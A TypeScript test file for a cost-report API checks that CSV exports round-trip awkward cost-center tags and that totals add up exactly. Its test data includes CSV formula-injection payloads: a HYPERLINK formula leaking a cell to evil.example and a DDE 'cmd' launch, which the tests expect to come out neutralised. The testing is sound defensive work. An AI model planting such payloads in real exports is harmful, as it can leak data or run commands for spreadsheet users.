import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import request from 'supertest';
import { ChargebackReportSchema, spendDimensions, type TraceIngest } from '@finops/contracts';
import { Decimal } from '@finops/pricing';
import { createOrg, type TestOrg } from '../support/factories';
import { ingestTraces } from '../support/report-dataset';
import { createTestGateway, type TestGateway } from '../support/test-gateway';

let gateway: TestGateway;
beforeAll(() => {
  gateway = createTestGateway();
});
afterAll(() => gateway.close());

const SEPTEMBER = 'from=2026-09-01&to=2026-09-30';
const getReport = (org: TestOrg, query: string) => request(gateway.app).get(`/api/v1/cost/report?${query}`).set(org.auth).expect(200);

type CsvRecord = Record<string, string>;
const parseCsv = (text: string): CsvRecord[] => parse(text, { columns: true, record_delimiter: '\r\n' });
const sum = (values: string[]) => values.reduce((total, value) => total.add(value), new Decimal(0));

const HOSTILE_COST_CENTERS: [tag: string, cell: string][] = [
  ['comma, inside', 'comma, inside'],
  ['say "hi"', 'say "hi"'],
  ['two\nlines', 'two\nlines'],
  ['carriage\r\nreturn', 'carriage\r\nreturn'],
  ['Zürich € 東京 🚀', 'Zürich € 東京 🚀'],
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3+cmd|x', "'-2+3+cmd|x"],
  ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['-42', '-42'],
];

describe('chargeback CSV', () => {
  test('when tags hold separators, quotes, line breaks, unicode and formulas, then the CSV parses back to them, formulas made inert', async () => {
    const org = await createOrg(gateway.app);
    const traces: TraceIngest[] = HOSTILE_COST_CENTERS.map(([costCenter], i) => ({
      agentId: `agt-${i}`,
      modelId: 'gpt-4o',
      tokensUsed: 10,
      costUsd: `${i + 1}.25`,
      costCenter,
      occurredAt: '2026-09-15T12:00:00Z',
    }));
    await ingestTraces(gateway.app, org, traces);

    const json = ChargebackReportSchema.parse((await getReport(org, SEPTEMBER)).body);
    const csv = await getReport(org, `${SEPTEMBER}&format=csv`);
    const records = parseCsv(csv.text);

    // The JSON keeps every tag exactly; the CSV cell is the same text, a leading quote added where it would run.
    expect(json.rows.map((row) => row.costCenter).sort()).toEqual(HOSTILE_COST_CENTERS.map(([tag]) => tag).sort());
    const cellBySpend = new Map(records.filter((record) => record.line === 'attributed').map((record) => [record.spendUsdExact, record.costCenter]));
    HOSTILE_COST_CENTERS.forEach(([, cell], i) => expect(cellBySpend.get(`${i + 1}.25`)).toBe(cell));
    for (const record of records) {
      for (const value of Object.values(record)) expect(/^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?$/.test(value)).toBe(false);
    }
    expect(csv.headers['content-type']).toContain('charset=utf-8');
  });

  test('when random datasets are reported, then rows and unattributed add up to the total, exactly and to the cent', async () => {
    const costCenters = ['finance', 'marketing', 'ops', null];
    const teams = ['ml', 'data', null];
    const trace = fc.record({
      costCenter: fc.constantFrom(...costCenters),
      team: fc.constantFrom(...teams),
      agentId: fc.constantFrom('a1', 'a2', 'a3'),
      modelId: fc.constantFrom('gpt-4o', 'gpt-4o-mini', 'no-such-model'),
      micro: fc.bigInt({ min: 0n, max: 10n ** 14n }),
      minute: fc.integer({ min: 0, max: 30 * 24 * 60 - 1 }),
    });
    const groupBy = fc.subarray([...spendDimensions], { minLength: 1, maxLength: 3 });
    const granularity = fc.constantFrom('total', 'day', 'week', 'month');

    await fc.assert(
      fc.asyncProperty(fc.array(trace, { maxLength: 40 }), groupBy, granularity, async (dataset, dimensions, period) => {
        const org = await createOrg(gateway.app);
        const traces: TraceIngest[] = dataset.map((item) => ({
          agentId: item.agentId,
          modelId: item.modelId,
          tokensUsed: 100,
          costUsd: new Decimal(item.micro.toString()).div('1e12').toFixed(),
          costCenter: item.costCenter,
          team: item.team,
          occurredAt: new Date(Date.parse('2026-09-01T00:00:00Z') + item.minute * 60_000).toISOString(),
        }));
        if (traces.length > 0) await ingestTraces(gateway.app, org, traces);
        const query = `${SEPTEMBER}&groupBy=${dimensions.join(',')}&granularity=${period}`;

        const report = ChargebackReportSchema.parse((await getReport(org, query)).body);
        const unattributedLines = report.unattributed.byPeriod ?? [report.unattributed];
        const lines = [...report.rows, ...unattributedLines];
        expect(report.totalUsd).toBe(sum(traces.map((item) => item.costUsd as string)).toFixed());
        expect(sum(lines.map((line) => line.spendUsd)).toFixed()).toBe(report.totalUsd);
        expect(sum(lines.map((line) => line.spendUsdRounded)).toFixed(2)).toBe(report.totalUsdRounded);
        expect(report.totalUsdRounded).toBe(new Decimal(report.totalUsd).toDecimalPlaces(2, Decimal.ROUND_HALF_EVEN).toFixed(2));
        if (report.totalUsd !== '0') expect(sum(lines.map((line) => line.shareOfTotal!)).toFixed(6)).toBe('1.000000');
        expect(lines.reduce((count, line) => count + line.traceCount, 0)).toBe(traces.length);

        const records = parseCsv((await getReport(org, `${query}&format=csv`)).text);
        const total = records.at(-1)!;
        const body = records.slice(0, -1);
        expect(total.line).toBe('total');
        expect(sum(body.map((record) => record.spendUsd!)).toFixed(2)).toBe(total.spendUsd);
        expect(sum(body.map((record) => record.spendUsdExact!)).toFixed()).toBe(total.spendUsdExact);
        expect(total.spendUsdExact).toBe(report.totalUsd);
      }),
      { numRuns: 15 },
    );
  });
});
